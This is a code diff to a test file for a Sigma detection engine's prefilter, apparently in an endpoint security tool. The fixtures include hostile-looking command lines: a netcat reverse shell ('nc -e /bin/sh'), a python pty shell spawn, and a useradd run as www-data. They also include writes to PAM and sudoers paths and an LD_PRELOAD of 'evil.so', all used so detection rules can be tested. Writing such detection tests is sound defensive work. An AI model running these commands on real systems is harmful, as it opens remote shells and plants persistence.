@@ -5,7 +5,8 @@ import { join, resolve } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import type { TelemetryEvent } from '../../../../../preload/contract/index.js';
 import { loadRules, readRuleFolders, SigmaEngine } from '../../../../../main/core/detect/sigma/index.js';
-import { LiteralSet, regexLiteral } from '../../../../../main/core/detect/sigma/prefilter.js';
+import { LiteralSet, regexLiteral, regexLiterals } from '../../../../../main/core/detect/sigma/prefilter.js';
+import { commandLine } from '../../../../../main/core/sensors/process/index.js';
 import { execEventSource } from '../../../../../scripts/bench/lib/exec-events.js';
 
 const CORPORA = resolve(process.cwd(), '..', 'shared', 'corpora');
@@ -20,6 +21,12 @@ describe('Sigma prefilter', () => {
     expect(regexLiteral('\\x41BC')).toBe('BC'); // \x41 is one character, not "41"
     expect(regexLiteral('ab{2}c')).toBe('a');
     expect(regexLiteral('[/|]var/log')).toBe('var/log');
+    // Groups of plain alternatives multiply the text around them; optional or counted groups end it.
+    expect(regexLiterals('-(W|R)\\s?(\\s|"|\')([0-9a-f]{2}\\s?){2,20}')).toEqual(['-W', '-R']);
+    expect(regexLiterals('(?:curl|wget) -\\S*O')).toEqual(['curl -', 'wget -']);
+    expect(regexLiterals('x(ab|cd)?yz')).toEqual(['yz']);
+    expect(regexLiterals('(?=abc)de')).toEqual(['de']);
+    expect(regexLiterals('a|b')).toEqual([]);
   });
 
   it('LiteralSet finds overlapping literals in one pass', () => {
@@ -42,6 +49,17 @@ describe('Sigma prefilter', () => {
       const exe = `/usr/bin/${cl.split(' ')[0]}`;
       events.push({ ...events[i]!, id: 10_000 + i, process: { ...events[i]!.process, executable: exe, name: cl.split(' ')[0]!, command_line: cl, args: cl.split(' ') } });
     });
+    // Whole-value anchors (auditd's a0 "id"/"w", a user name, a file path) and args that need quoting: the
+    // command line is built the way the sensors build it, so an arg with ' is quoted and escaped.
+    [['id'], ['w'], ['whoami'], ['useradd', 'mallory'], ['python3', '-c', "import pty;pty.spawn('/bin/sh')"], ['sh', '-c', "echo 'a b' | nc -e /bin/sh x 1"]]
+      .forEach((args, i) => {
+        events.push({ ...events[i]!, id: 30_000 + i, user: { id: 33, name: 'www-data' },
+          process: { ...events[i]!.process, executable: `/usr/bin/${args[0]}`, name: args[0]!, command_line: commandLine(args), args } } as TelemetryEvent);
+      });
+    for (const [i, path] of ['/etc/pam.d/system-auth', '/etc/sudoers.d/x', '/tmp/.x/payload.sh', `/tmp/${'a'.repeat(120)}`].entries()) {
+      events.push({ ...events[i]!, id: 40_000 + i, event: { kind: 'file', action: 'create', sequence: null },
+        file: { path, name: path.slice(path.lastIndexOf('/') + 1), directory: path.slice(0, path.lastIndexOf('/')) } } as TelemetryEvent);
+    }
     // List fields (environment, argv) are scanned too.
     events.push({ ...events[0]!, id: 20_000, process: { ...events[0]!.process, env_vars: ['HOME=/root', 'LD_PRELOAD=/tmp/x/evil.so'] } } as TelemetryEvent);
     const run = (prefilter: boolean) => {
@@ -52,6 +70,8 @@ describe('Sigma prefilter', () => {
     // (fewer without ../shared/corpora: Mamori's own pack alone)
     expect(fast.length).toBeGreaterThan(folders.length > 1 ? 50 : 20);
     expect(fast.some((f) => f.startsWith('20000:'))).toBe(true);
+    if (folders.length > 1) expect(fast.some((f) => f.startsWith('30000:'))).toBe(true); // auditd: a0 is "id"
+    expect(fast.some((f) => f.startsWith('4000'))).toBe(true);
     expect(fast).toEqual(run(false));
   });
 });
